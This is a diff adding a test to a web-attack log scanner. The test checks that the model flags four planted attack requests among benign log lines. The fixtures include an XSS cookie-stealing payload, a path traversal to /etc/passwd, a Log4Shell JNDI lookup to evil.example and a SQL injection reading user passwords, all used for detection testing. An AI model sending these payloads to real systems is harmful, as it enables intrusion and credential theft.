@@ -10,12 +10,15 @@ import tracemalloc
 from collections import Counter
 from collections.abc import Iterator
 from pathlib import Path
+from urllib.parse import quote
 
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tests.inference.small_model import SmallRuntime, small_engine
+from vedette.config import Settings
 from vedette.http_request import HTTPRequest
+from vedette.inference.engine import load_engine
 from vedette.inference.scan import Scanner, ScanOptions, ScanProgress, scan
 from vedette.inference.scan_counters import ReasonCounter, TimeHistogram, TopCounter, WorstList
 from vedette.ingestion.sources import RequestSource
@@ -189,6 +192,22 @@ def test_reasons_and_worst_findings_are_bounded() -> None:
     for i in range(500):
         worst.add(finding(path=f"/{i}", score=i / 500))
     assert [found.path for found in worst.worst()] == ["/499", "/498", "/497"]
+
+
+def test_the_shipped_model_finds_the_attacks_in_a_log() -> None:
+    attacks = [
+        line("/search?q=" + quote("<img src=x onerror=alert(document.cookie)>"), client="203.0.113.66"),
+        line("/download?file=" + quote("../../../../../../etc/passwd"), client="203.0.113.66"),
+        line("/?x=" + quote("${jndi:ldap://evil.example/a}"), client="203.0.113.66"),
+        line("/item?id=" + quote("1' UNION SELECT username,password FROM users-- -"), client="203.0.113.66"),
+    ]
+    benign = [line(f"/products/{i}?page={i}&sort=price", client=f"192.0.2.{i % 200}") for i in range(300)]
+    summary = scan(load_engine(Settings()), [source(*benign[:150], *attacks, *benign[150:])])
+    assert (summary.requests, summary.not_judged, summary.unreadable_lines) == (304, 0, 0)
+    assert [item.key for item in summary.clients] == ["203.0.113.66"]
+    assert {found.line for found in summary.worst} == {151, 152, 153, 154}
+    assert {"xss", "traversal", "log4shell", "sqli"} == {item.key for item in summary.classes}
+    assert all(found.mark is not None for found in summary.worst)
 
 
 def finding(*, path: str = "/", score: float = 0.9) -> WorstFinding:
